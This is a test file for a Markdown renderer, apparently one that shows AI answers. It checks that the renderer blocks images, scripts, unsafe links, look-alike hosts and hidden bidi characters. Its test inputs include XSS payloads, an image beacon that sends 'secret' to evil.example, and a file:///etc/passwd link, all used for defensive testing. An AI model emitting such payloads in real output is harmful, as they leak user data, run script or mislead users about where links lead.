// @vitest-environment happy-dom
import { cleanup, configure, fireEvent, render, screen, waitFor } from '@testing-library/react';
import fc from 'fast-check';
import { afterEach, describe, expect, test } from 'vitest';
import Markdown from './Markdown';

// As long as a busy machine takes.
configure({ asyncUtilTimeout: 15_000 });

afterEach(cleanup);

const show = (text: string) => render(<Markdown text={text} />).container;

describe('nothing in an answer loads or runs', () => {
  test.each([
    '![pixel](https://evil.example/p.png?q=secret)',
    '[![pixel](https://evil.example/p.png)](https://evil.example/)',
    '![ref][p]\n\n[p]: https://evil.example/p.png',
    '<img src="https://evil.example/p.png">',
    '<svg/onload=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>*{display:none}</style>',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '- <img src=x onerror=alert(1)>',
    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    '```html\n<img src=x onerror=alert(1)>\n```',
    '[x](data:text/html,<script>alert(1)</script>)',
    '<https://evil.example/"onmouseover="alert(1)>',
  ])('%s', markdown => {
    const container = show(markdown);
    expect(
      container.querySelectorAll('img, script, iframe, object, embed, style, link, form, svg[onload]'),
    ).toHaveLength(0);
    for (const element of container.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^src|^style$|^formaction$/);
        if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      }
    }
  });

  test('random Markdown and HTML', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      '](',
      '[',
      ')',
      '!',
      '`',
      'javascript:',
      'img src=',
      'onerror=',
      '\n',
      '\n\n',
      '- ',
      'https://e.example/',
      '|',
      '&#106;',
      'style=',
      'x',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), pieces => {
        const { container, unmount } = render(<Markdown text={pieces.join('')} />);
        expect(container.querySelector('img, script, iframe, style, [style], [onerror]')).toBeNull();
        for (const link of container.querySelectorAll('a'))
          expect(link.href).toMatch(/^(https?:\/\/|mailto:)/);
        unmount();
      }),
    );
  });
});

describe('links', () => {
  test('open in a new tab, tell nothing, and show where they lead', () => {
    show('See [your bank](https://evil.example/login?from=bank).');
    const link = screen.getByRole('link', { name: 'your bank' });
    expect(link.getAttribute('rel')).toBe('noreferrer noopener');
    expect(link.getAttribute('target')).toBe('_blank');
    screen.getByText('evil.example');
  });

  test('a bare address needs no second mention of its host', () => {
    const container = show('https://docs.example/page');
    expect(container.querySelectorAll('.link-host')).toHaveLength(0);
  });

  test.each([
    '[https://bank.example/evil.example](https://evil.example/)',
    '[https://evil.example@bank.example](https://evil.example/)',
    '[bank.example (evil.example)](https://evil.example/)',
    '[https://evil.example/ is bank.example](https://evil.example/)',
  ])('words that only hold the host do not stand for it: %s', markdown => {
    expect(show(markdown).querySelector('.link-host')?.textContent).toBe('evil.example');
  });

  test('a look-alike host is shown in its true form', () => {
    show('[apple](https://аpple.example/)');
    screen.getByText(/^xn--/);
  });

  test.each([
    '[a](/options.html)',
    '[a](javascript:alert(1))',
    '[a](chrome-extension://x/y)',
    '[a](#top)',
    '[a](file:///etc/passwd)',
  ])('%s is text', markdown => {
    show(markdown);
    expect(screen.queryByRole('link')).toBeNull();
  });

  test('an image is a link to where it would have come from', () => {
    show('![a chart](https://img.example/c.png)');
    expect(screen.getByRole('link', { name: 'Image: a chart' }).getAttribute('href')).toBe(
      'https://img.example/c.png',
    );
    screen.getByText('img.example');
  });
});

describe('direction', () => {
  test('each block has its own; code is left to right', () => {
    const container = show('مرحبا `code`\n\n- بند\n\nEnglish\n\n```\nx\n```');
    const directions = [...container.querySelectorAll('p, ul, code, figure')].map(
      element => `${element.localName} ${element.getAttribute('dir')}`,
    );
    expect(directions).toEqual(['p auto', 'code ltr', 'ul auto', 'p auto', 'figure ltr', 'code null']);
  });
});

test('headings of an answer stand below the page’s own', () => {
  show('# A\n\n## B\n\n###### C');
  expect(screen.getAllByRole('heading').map(({ localName }) => localName)).toEqual(['h3', 'h4', 'h6']);
});

describe('what is not seen is shown', () => {
  test.each([
    'a\u202Eb',
    '`a\u202Eb`',
    '```\na\u202Eb\n```',
    '[a\u202Eb](https://e.example/)',
    '![a\u202Eb](https://e.example/)',
    'a&#8238;b',
  ])('%j', markdown => {
    const { textContent } = show(markdown);
    expect(textContent).not.toContain('\u202E');
    expect(textContent).toContain('U+202E');
  });
});

test('a line break in a cell is one, and no other HTML is anything', () => {
  const container = show('| a |\n|---|\n| x<br>y<b>z</b> |');
  expect(container.querySelectorAll('td br')).toHaveLength(1);
  expect(container.querySelector('td')?.textContent).toBe('xy<b>z</b>');
});

test('a task has a box', () => {
  show('- [x] lit\n- [ ] seen');
  expect(screen.getAllByRole('img').map(box => box.getAttribute('aria-label'))).toEqual(['done', 'open']);
});

describe('code', () => {
  test('is highlighted once there is time', async () => {
    const container = show('```js\nconst a = 1;\n```');
    await waitFor(() => expect(container.querySelector('.hljs-keyword')?.textContent).toBe('const'));
    expect(container.querySelector('pre')?.textContent).toBe('const a = 1;');
  });

  test('can be wrapped', () => {
    const container = show('```\nx\n```');
    fireEvent.click(screen.getByRole('button', { name: 'Wrap lines' }));
    expect(container.querySelector('figure')?.dataset.wrapped).toBe('true');
  });
});

describe('formulas', () => {
  test.each(['a $x^2$ b', 'a \\(x^2\\) b', '$$\nx^2\n$$', '\\[\nx^2\n\\]', '- $x^2$', '$$x^2$$'])(
    '%j',
    async markdown => {
      const container = show(markdown);
      await waitFor(() => expect(container.querySelector('math msup')?.textContent).toBe('x2'));
    },
  );

  test('what is none stays as it was written', async () => {
    const container = show('$\\nonsense{$ and $5 or $6');
    expect(container.textContent).toContain('\\nonsense{ and $5 or $6');
  });
});
